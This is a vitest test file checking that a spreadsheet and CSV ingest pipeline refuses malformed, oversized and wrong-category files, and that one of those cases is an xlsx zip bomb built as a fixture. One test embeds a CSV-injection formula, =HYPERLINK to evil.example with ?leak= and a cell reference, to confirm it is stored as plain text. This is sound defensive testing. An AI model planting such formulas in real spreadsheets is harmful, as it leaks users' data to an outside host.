// Bad input, end to end through `ingestPaths`: each file fails with a clear reason, stays as it was, and adds no row.
import { createHash } from 'node:crypto';
import { copyFile, readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { FileOutcome } from '../../../src/core/ingest/outcome.ts';
import { DEFAULT_SCOPE } from '../../../src/core/model/scope.ts';
import { CATEGORY_TABLE, type Category } from '../../../src/core/warehouse/tables.ts';
import { CORPUS, corpus } from '../../helpers/corpora.ts';
import { writeOneLine } from './generated-files.ts';
import { createIngestHarness, type IngestHarness } from './ingest-harness.ts';
import { buildZip } from './zip-writer.ts';

const CSVKIT = corpus('csv/csvkit_examples/examples');

describe('bad input', () => {
  let h: IngestHarness;
  beforeEach(async () => {
    h = await createIngestHarness();
  });
  afterEach(async () => {
    await h.close();
  });

  const digest = async (file: string) =>
    createHash('sha256')
      .update(await readFile(file))
      .digest('hex');

  /** Ingests one file and checks the invariants every bad file must keep; returns its outcome. */
  async function refused(file: string, category: Category): Promise<FileOutcome> {
    const before = await digest(file);
    const [outcome] = await h.ingest.ingestPaths([file], { category, scope: DEFAULT_SCOPE });
    expect(outcome).toMatchObject({ outcome: 'failed', reason: expect.any(String) });
    // Nothing partial: no row of the file is stored.
    expect(await h.count(CATEGORY_TABLE[category])).toBe(0);
    // Nothing lost: the file is untouched, and a copy sits in failed/<category>/ with its reason.
    expect(await digest(file)).toBe(before);
    const copy = path.join(h.dataDir, 'failed', category, path.basename(file));
    expect(await digest(copy)).toBe(before);
    expect(await readFile(`${copy}.reason.txt`, 'utf8')).toBe(`${outcome!.reason}\n`);
    return outcome!;
  }

  const write = async (name: string, content: string | Buffer) => {
    const file = path.join(h.dir, name);
    await writeFile(file, content);
    return file;
  };

  it('refuses an empty file', CORPUS, async () => {
    const file = path.join(h.dir, 'empty.csv');
    await copyFile(path.join(CSVKIT, 'empty.csv'), file);
    expect((await refused(file, 'expenses')).reason).toMatch(/empty/i);
  });

  // Neither first row fits in the head Titan reads: the reason says what the row is, measured.
  it('refuses a 200,000-column header by its width, not as empty', async () => {
    const header = Array.from({ length: 200_000 }, (_, i) => `Column ${i + 1}`).join(',');
    const file = await write('wide.csv', `${header}\n${'1,'.repeat(199_999)}1\n`);
    const outcome = await refused(file, 'sales');
    expect(outcome.code).toBe('ingest.unreadable');
    expect(outcome.reason).toMatch(
      /^The first row is [\d,]+ characters long in 2,00,000 columns: .*not a table export/,
    );
  });

  it('refuses a 100 MB single line by its length, not as empty', async () => {
    const file = path.join(h.dir, 'one-line.csv');
    await writeOneLine(file, 100 * 1024 ** 2);
    const outcome = await refused(file, 'sales');
    expect(outcome.code).toBe('ingest.unreadable');
    expect(outcome.reason).toMatch(
      /^The file is one row of [\d,]+ characters, with no line break: .*not a table export/,
    );
  });

  it('refuses a header with no rows', async () => {
    const file = await write('header-only.csv', 'Date,Particulars,Amount\n');
    expect((await refused(file, 'expenses')).reason).toMatch(/no data rows/i);
  });

  it('refuses binary junk named .csv', async () => {
    const junk = Buffer.alloc(4096);
    for (let i = 0; i < junk.length; i += 1) junk[i] = (i * 7919 + 13) % 256;
    const file = await write('junk.csv', junk);
    expect((await refused(file, 'sales')).reason).toMatch(/not text|binary/i);
  });

  it('refuses a truncated workbook', CORPUS, async () => {
    const whole = await readFile(corpus('spreadsheets/sheetjs/files/text_and_numbers.xlsx'));
    const file = await write('cut-short.xlsx', whole.subarray(0, Math.floor(whole.length * 0.6)));
    const outcome = await refused(file, 'sales');
    expect(outcome.code).toBe('ingest.unreadable');
    expect(outcome.reason).toMatch(/damaged|incomplete|cut short/i);
  });

  it('refuses an xlsx zip bomb by its declared sizes, before inflating it', async () => {
    // 64 MB of one repeated cell deflates to ~64 KB: a 1000× expansion no real workbook has.
    const sheet = Buffer.alloc(64 * 1024 ** 2, '<c><v>1</v></c>');
    const bomb = buildZip([
      { name: '[Content_Types].xml', data: Buffer.from('<Types/>') },
      { name: 'xl/workbook.xml', data: Buffer.from('<workbook/>') },
      { name: 'xl/worksheets/sheet1.xml', data: sheet, deflate: true },
    ]);
    const file = await write('bomb.xlsx', bomb);
    const outcome = await refused(file, 'sales');
    expect(outcome.code).toBe('ingest.too_large');
    expect(outcome.reason).toMatch(/zip bomb/);
  });

  it('refuses an xlsx with more entries than any workbook has', async () => {
    const entries = Array.from({ length: 10_001 }, (_, i) => ({
      name: `xl/media/${i}.bin`,
      data: Buffer.alloc(0),
    }));
    const file = await write('many.xlsx', buildZip(entries));
    expect((await refused(file, 'sales')).code).toBe('ingest.too_large');
  });

  it('refuses a file in the wrong category, naming the right one', async () => {
    const file = await write(
      'stock.csv',
      'Date,Item,Unit,Opening Qty,Received Qty,Consumed Qty,Wastage Qty,Closing Qty\n' +
        '01/11/2026,Maida,kg,20,10,25,1,4\n02/11/2026,Milk,l,10,30,35,0,5\n',
    );
    const outcome = await refused(file, 'expenses');
    expect(outcome.code).toBe('ingest.wrong_category');
    expect(outcome.reason).toMatch(/looks like inventory data, not expenses/);
  });

  it('refuses a file whose required columns cannot be mapped, naming them', async () => {
    const file = await write('notes.csv', 'Who,What\nRavi,Cleaned the fryer\n');
    const outcome = await refused(file, 'purchases');
    expect(outcome.reason).toMatch(/date/);
  });

  it('refuses a small file with an unreadable row, quoting it', async () => {
    const file = await write(
      'typo.csv',
      'Date,Particulars,Amount\n01/11/2026,Milk,120\n02/11/2026,Gas,nine hundred\n',
    );
    expect((await refused(file, 'expenses')).reason).toMatch(/row 2: amount: "nine hundred" is not a number/);
  });

  it('stores =HYPERLINK(…) cells as text and never evaluates them', async () => {
    const cell = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
    const file = await write(
      'links.csv',
      `Date,Particulars,Amount\n01/11/2026,"${cell.replaceAll('"', '""')}",120\n`,
    );
    const [outcome] = await h.ingest.ingestPaths([file], { category: 'expenses', scope: DEFAULT_SCOPE });
    expect(outcome).toMatchObject({ outcome: 'loaded', rows: 1 });
    const [row] = await h.warehouse.query<{ description: string }>('SELECT description FROM expenses_master');
    expect(row!.description).toBe(cell);
  });

  it('adds nothing for the same file twice, or the same bytes under another name', async () => {
    const content = 'Date,Particulars,Amount\n01/11/2026,Milk,120\n02/11/2026,Gas,900\n';
    const first = await write('november.csv', content);
    const copy = await write('november (1).csv', content);
    const outcomes = await h.ingest.ingestPaths([first, first, copy], {
      category: 'expenses',
      scope: DEFAULT_SCOPE,
    });
    expect(outcomes.map((o) => [o.outcome, o.rows])).toEqual([
      ['loaded', 2],
      ['already_loaded', 2],
      ['already_loaded', 2],
    ]);
    expect(await h.count('expenses_master')).toBe(2);
  });
});
